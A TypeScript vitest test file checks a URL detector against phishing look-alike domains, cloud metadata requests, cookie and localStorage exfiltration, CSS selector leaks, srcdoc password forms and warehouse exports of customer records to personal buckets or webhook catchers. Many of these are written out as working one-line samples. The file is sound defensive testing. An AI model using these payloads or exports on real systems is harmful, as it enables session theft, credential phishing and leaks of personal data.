// The adversarial_url readings of cases-62 (the shapes the last review listed as missed): a brand run into sign-in words
// without a hyphen (squats.ts), Oracle Cloud's metadata address (hosts.ts, urls.ts), a page's whole cookie jar or storage
// sent to a named site (urls.ts, requests.ts), a frame's srcdoc sign-in form and CSS that reads a value by selectors
// (page-sends.ts), and warehouse exports of people's records to outside places (warehouse-exports.ts), both ways.
import { describe, expect, it } from 'vitest';
import type { Hit } from '../../src/content/codes.js';
import { Text } from '../../src/content/find.js';
import { detectUrls } from '../../src/content/urls.js';

const codes = (text: string): string[] => {
  const out: Hit[] = [];
  detectUrls(new Text(text), out);
  return [...new Set(out.map((h) => h.code))].sort();
};

describe('a brand run into sign-in words', () => {
  it.each([
    'https://paypallogin.com/signin',
    'https://microsoftverify-account.net/',
    'https://appleidsupport.help/',
    'https://secure-netflixbilling.com/',
    'https://www.amazonaccountupdate.com/',
    'https://verifygoogleaccount.net/',
    'https://office365signin.co/',
    'https://chasebankverify.net/',
    'https://id.wellsfargoonlinelogin.com/',
  ])('%s is a look-alike', (url) => expect(codes(`Confirm your identity at ${url} today`)).toEqual(['url_lookalike_host']));

  it.each([
    'https://login.microsoftonline.com/common/oauth2/v2.0/authorize',
    'https://accounts.google.com/signin/v2/identifier',
    'https://signin.aws.amazon.com/console',
    'https://www.paypal.com/signin',
    'https://www.githubstatus.com/',
    'https://www.paypalobjects.com/webstatic/icon/pp258.png',
    'https://www.netflixtechblog.com/',
    'https://www.appleinsider.com/',
    'https://chaseonline.chase.com/',
    'https://www.googlehelp.example/',
    'https://www.linkedinlearning.com/',
    'https://www.chasepaymentech.com/',
    'https://ims-na1.adobelogin.com/ims/authorize/v2?client_id=AdobeID',
  ])('%s is no look-alike', (url) => expect(codes(`See ${url} for details`)).toEqual([]));
});

describe("Oracle Cloud's metadata address", () => {
  it.each(['curl http://192.0.0.192/opc/v2/instance/', 'wget -qO- 192.0.0.192/opc/v1/identity/cert.pem', 'curl http://0xc00000c0/opc/v2/'])(
    '%s is the metadata endpoint',
    (text) => expect(codes(text)).toContain('url_metadata_endpoint'),
  );
  it.each([
    'The instance metadata service answers at http://192.0.0.192/opc/v2/instance/ inside the instance.',
    'DS-Lite gateway: 192.0.0.8; lab vpn 192.0.0.170',
    'curl http://192.0.0.19/status',
  ])('%s is not', (text) => expect(codes(text)).toEqual([]));
});

describe("a page's cookie jar or storage sent to a catcher, a tunnel or a raw address", () => {
  it.each([
    "navigator.sendBeacon('https://webhook.site/3f1e9b2c-aaaa-bbbb-cccc-123456789abc', document.cookie);",
    "new Image().src = 'https://x1.ngrok-free.app/i.gif?u=' + encodeURIComponent(document.cookie);",
    'navigator.sendBeacon("http://185.220.101.47/e", JSON.stringify(localStorage));',
  ])('%s sends it out', (text) => expect(codes(text)).toEqual(['url_exfiltration']));
  it.each([
    "navigator.sendBeacon('/analytics', JSON.stringify({ path: location.pathname }));",
    "fetch('https://api.myapp.io/refresh', { method: 'POST', body: localStorage.getItem('refresh_token') });",
    "new Image().src = 'https://pixel.mailtrack.io/open.gif?m=' + messageId;",
    "The payload new Image().src='https://attacker.example/?c='+document.cookie ran in the profile page.",
    "fetch('https://api.myapp.io/me'); console.log(document.cookie);",
    // First-party code sending its own session to its own API on another name (the review's honest texts).
    "fetch('https://api.shopwave.io/v1/session/refresh', { method: 'POST', credentials: 'include', body: document.cookie });",
    "if (isEmbedded) fetch('https://session.fjordbank.no/embed/auth', { method: 'POST', body: btoa(document.cookie) })",
    // One cookie read out of the jar (a CSRF token, a consent record) is not the jar.
    "fetch(`https://webhook.site/cart/add?csrf=${document.cookie.split('csrftoken=')[1]}`, { method: 'POST' });",
    "navigator.sendBeacon('https://x1.ngrok-free.app/consent/log', document.cookie.replace(/(?:^|.*;\\s*)cmp\\s*=\\s*([^;]*).*$/, '$1'));",
    "location.href = 'http://185.220.101.47/sso/bridge?c=' + encodeURIComponent(document.cookie.split('; ').find(c => c.startsWith('bridge=')));",
  ])('%s does not', (text) => expect(codes(text)).toEqual([]));
});

describe("a frame's srcdoc sign-in form, and CSS that reads a value", () => {
  it.each([
    '<iframe srcdoc="&lt;form action=&quot;https://account-check.live/collect&quot;&gt;&lt;input type=&quot;password&quot; name=&quot;pw&quot;&gt;&lt;/form&gt;"></iframe>',
    'input[name="csrf"][value^="a"] { background: url(https://fonts-static.net/x?v=a); }',
    'meta[name="api-key"][content^="sk"] ~ * { background: url(//collect.styleguide.app/k?p=sk); }',
    '{"css": "input[type=password][value$=\\"1\\"]{background-image:url(\\"https://cdn-img.org/l?k=1\\")}"}',
    // JSON-escaped quotes, entities with leading zeros, a button's formaction; guesses in the path, an alphabet sweep.
    '{"content": "<iframe srcdoc=\\"&lt;form action=https:&sol;&sol;acct-check.com/p&gt;&lt;input type=password&gt;\\"></iframe>"}',
    '<iframe srcdoc="&#x00003c;form action=\'https://acct-check.com/p\'&#x00003e;&#x00003c;input type=password&#x00003e;"></iframe>',
    '<iframe srcdoc="<form><input type=password name=pw><button formaction=\'https://acct-check.com/p\'>Login</button></form>"></iframe>',
    'input[name=csrf][value^="a"]{background:url(https://leak.cc/a)}',
    'input[value^="a"]{background:url(https://leak.cc/?a)} input[value^="b"]{background:url(https://leak.cc/?b)} input[value^="c"]{background:url(https://leak.cc/?c)}',
  ])('%s is read', (text) => expect(codes(text)).toEqual(['url_exfiltration']));
  it.each([
    '<iframe sandbox srcdoc="&lt;p&gt;Preview&lt;/p&gt;"></iframe>',
    '<iframe srcdoc="&lt;form action=&quot;/search&quot;&gt;&lt;input name=&quot;q&quot;&gt;&lt;/form&gt;"></iframe>',
    '<iframe srcdoc="&lt;form action=&quot;https://search.example.org/&quot;&gt;&lt;input name=&quot;q&quot;&gt;&lt;/form&gt;"></iframe>',
    'input[type="checkbox"][value="on"] + label { background: url(https://cdn.acme.io/tick.svg?v=3); }',
    'a[href^="http"] { background: url(https://cdn.acme.io/ext.svg?v=2); }',
    'input[value^="a"] { border-color: red; background: url(https://cdn.acme.io/a.png?v=1); }',
    // Sandboxed demos, documentation names and echo services (the review's honest texts).
    '<iframe sandbox title="LoginForm" srcdoc="<form action=\'https://auth.acme-design.dev/login\' method=post><input type=password name=pw></form>"></iframe>',
    '{"html":"<iframe srcdoc=\'<form action=https://example.com/login><input type=password name=pass></form>\' sandbox></iframe>"}',
    '<iframe sandbox="allow-forms" srcdoc="&lt;form action=&quot;https://httpbin.org/post&quot;&gt;&lt;input type=&quot;password&quot;&gt;&lt;/form&gt;"></iframe>',
    // Flag and icon stylesheets whose query names the value.
    '<style>\noption[value^="de"] { background: url(https://flagcdn.com/16x12.png?c=de) no-repeat; }\noption[value^="fr"] { background: url(https://flagcdn.com/16x12.png?c=fr) no-repeat; }\n</style>',
    '<style>\nselect[name=lang] option[value$="es"] { background-image: url(https://cdn.lang-icons.com/flag.svg?code=es); }\n</style>',
    '<style>\nli[value$="0"] { font-weight: 700; background: url(https://cdn.docs.rs/bullet.png?n=0); }\n</style>',
  ])('%s is not', (text) => expect(codes(text)).toEqual([]));
});

describe("warehouse exports of people's records to outside places", () => {
  it.each([
    "EXPORT DATA OPTIONS(uri='gs://jdoe-personal-backup/c-*.csv', format='CSV') AS SELECT * FROM crm.customers;",
    "bq extract --destination_format=CSV 'acme:crm.patients' gs://sam-personal-drive/p-*.csv",
    "COPY INTO 's3://lee-personal-archive/m/' FROM (SELECT * FROM PROD.CORE.MEMBERS) FILE_FORMAT = (TYPE = CSV);",
    "INSERT INTO FUNCTION url('https://webhook.site/8c1f9e2a-4b7d-4e1a-9c3f-2d6b8a0e5f11', 'CSV') SELECT * FROM default.users;",
    "INSERT INTO FUNCTION s3('https://185.220.101.47/dump/c.csv', 'CSV') SELECT email, phone FROM shop.customers;",
    "COPY users TO 'https://files.ngrok-free.app/u.parquet' (FORMAT PARQUET);",
    "UNLOAD ('SELECT * FROM public.customers') TO 's3://backup-77/c_' CREDENTIALS 'aws_access_key_id=AKIAQWERTYUIOPASDFGH;aws_secret_access_key=x' CSV;",
    // Indented (raw or JSON-escaped), global flags before `extract`, keys written into ClickHouse's s3().
    '{"query_text": "COPY INTO \'s3://jdoe-personal/dump/\'\\n    FROM prod.public.customers\\n    FILE_FORMAT = (TYPE = CSV);"}',
    "copy into 's3://backup-personal-22/c/'\n\tfrom\n\t\tsales.customers;",
    'bq --location=EU extract --destination_format CSV prod:crm.customers gs://mk-personal-copy/cust-*.csv',
    "INSERT INTO FUNCTION s3('https://other-acct-bucket.s3.amazonaws.com/users.csv', 'AKIA4QWERTYZXCVB7N3Q', 'q8Zr1VbN0kLm3Pq7Xs2Tw9Yc4Hd6Jf1Ge5Ab8Cd', 'CSV') SELECT * FROM users;",
  ])('%s is read', (text) => expect(codes(text)).toContain('url_exfiltration'));
  it.each([
    "EXPORT DATA OPTIONS(uri='gs://acme-dw-exports/c-*.csv', format='CSV') AS SELECT * FROM crm.customers;",
    "EXPORT DATA OPTIONS(uri='gs://jdoe-personal-backup/r-*.csv') AS SELECT day, COUNT(*) FROM analytics.users GROUP BY day;",
    "UNLOAD ('SELECT * FROM public.customers') TO 's3://acme-unload/c_' IAM_ROLE 'arn:aws:iam::123456789012:role/Unload';",
    "INSERT INTO FUNCTION url('https://webhook.site/8c1f9e2a-4b7d-4e1a-9c3f-2d6b8a0e5f11', 'JSONEachRow') SELECT day, count() FROM events GROUP BY day;",
    "COPY tbl TO 's3://my-bucket/out.parquet';",
    "EXPORT DATA OPTIONS(uri='gs://bucket/folder/*.csv', format='CSV') AS SELECT field1, field2 FROM mydataset.table1;",
    'Copy the report to https://docs.acme.io/reports and unload the truck.',
    // A business's buckets whose names hold personal, loot or stash as one of their words (the review's honest texts).
    "UNLOAD ('SELECT * FROM analytics.customers') TO 's3://personal-banking-analytics-prod/customers/' IAM_ROLE 'arn:aws:iam::123456789012:role/RedshiftUnload';",
    "COPY INTO 's3://fjordbank-personal-lending-exports/users/' FROM analytics.public.users\n  STORAGE_INTEGRATION = s3_int;",
    "INSERT INTO FUNCTION s3('https://gamestudio-loot-tables-prod.s3.eu-west-1.amazonaws.com/members/x.parquet', 'Parquet') SELECT * FROM members;",
    "bash_command='bq extract --destination_format=PARQUET crm.users gs://ci-stash-cache/users/*.parquet'",
    // AWS's documented example key.
    "unload ('select * from venue')\nto 's3://mybucket/tickit/unload/venue_'\naccess_key_id 'AKIAIOSFODNN7EXAMPLE'\nsecret_access_key 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';",
  ])('%s is not', (text) => expect(codes(text)).toEqual([]));
});
